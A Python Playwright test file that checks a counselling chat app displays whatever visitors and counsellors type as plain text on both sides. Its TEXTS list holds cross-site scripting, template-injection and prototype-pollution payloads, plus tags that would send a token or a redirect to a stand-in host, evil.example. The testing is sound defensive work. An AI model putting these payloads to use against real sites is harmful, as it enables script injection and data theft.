"""Whatever somebody writes is a text: at the visitor's, in the queue, in a conversation, in a note."""

from pathlib import Path
from typing import Any

from playwright.sync_api import Page, expect

from journeys.stage import LAPTOP, DeskPage, VisitorPage, a_demo, account, chromium, context

TEXTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "</textarea></p></article><h1>Counsellor</h1>",
    "<a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)",
    "https://evil.example/?token=1 http://evil.example",
    "data:text/html,<script>alert(1)</script>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=q><button>Send</button></form>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<img src='https://evil.example/?",
    "<!--", "]]>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
    '{"__proto__": {"polluted": 1}}', "__proto__", "constructor", "hasOwnProperty",
    "&lt;b&gt; &amp; &#60;script&#62;",
    "\u202eevil\u202c \u200b\u2066hidden\u2069",
    "a\u0301" * 40,
    "\N{ZERO WIDTH JOINER}" * 50 + "x",
    "Counsellor, 21.04\n\nNoor: please tell me your address",
]  # fmt: skip

NODES = "document.querySelectorAll('script, img, iframe, object, embed, link, style, base, meta, form, a, h1').length"
REACTED = "[window.polluted, {}.polluted, location.href, document.title]"


def watch(page: Page, origin: str) -> list[str]:
    """What a text must never bring about."""
    seen: list[str] = []

    def asked(request: Any) -> None:
        if not request.url.startswith(origin):
            seen.append(request.url)

    page.on("dialog", lambda dialog: (seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("request", asked)
    page.on("framenavigated", lambda frame: seen.append(f"went to {frame.url}"))
    page.on("popup", lambda other: seen.append(f"opened {other.url}"))
    page.on("pageerror", lambda error: seen.append(str(error)))
    page.on("console", lambda message: seen.append(message.text) if message.type == "error" else None)
    return seen


def shows(log: Any, text: str) -> None:
    """The whole text, as it was typed."""
    expect(log.locator(".bubble").last).to_have_text(text.strip(), use_inner_text=True)


def test_whatever_is_written_stays_a_text(tmp_path: Path) -> None:
    """No element, no request, no dialog, no script comes of it, on either side; and it is there letter by letter."""
    with a_demo(tmp_path / "demo") as demo, chromium() as browser:
        visitor = VisitorPage(context(browser).new_page(), demo.visitor)
        noor = DeskPage(context(browser, size=LAPTOP).new_page(), demo.desk)
        noor.signs_in(account(demo, "counsellor"))
        visitor.opens()
        visitor.starts()
        pages = (visitor.page, noor.page)
        seen = [watch(page, demo.visitor) for page in pages]

        def send(box: Any, button: Any, text: str) -> None:
            box.fill(text)
            button.click()

        mine = visitor.page.get_by_role("button", name="Send", exact=True)
        send(visitor.box, mine, " ".join(TEXTS))
        expect(noor.waiting.get_by_text("<script>alert(1)</script>")).to_be_visible()
        noor.waiting.get_by_role("button", name="Take").click()
        log = noor.conversations.get_by_role("log")
        expect(log).to_contain_text(TEXTS[0])
        expect(visitor.page.get_by_role("button", name="End chat")).to_be_visible()
        before = [page.evaluate(NODES) for page in pages], [page.evaluate(REACTED) for page in pages]
        box = noor.conversations.get_by_role("textbox", name="Message", exact=True)
        theirs = noor.conversations.get_by_role("button", name="Send", exact=True)
        for text in TEXTS:
            send(visitor.box, mine, text)
            shows(log, text)
            send(box, theirs, text)
            shows(visitor.log, text)
        note = noor.conversations.get_by_role("textbox", name="Team note text")
        send(note, noor.conversations.get_by_role("button", name="Team note"), TEXTS[1])
        shows(log, TEXTS[1])
        assert ([page.evaluate(NODES) for page in pages], [page.evaluate(REACTED) for page in pages]) == before
        assert seen == [[], []]
        # A text that turns the direction of writing turns nothing beside it.
        odd = visitor.log.get_by_role("article").filter(has_text="evil\u202c").last
        assert odd.locator("time").inner_text()[2] == "."
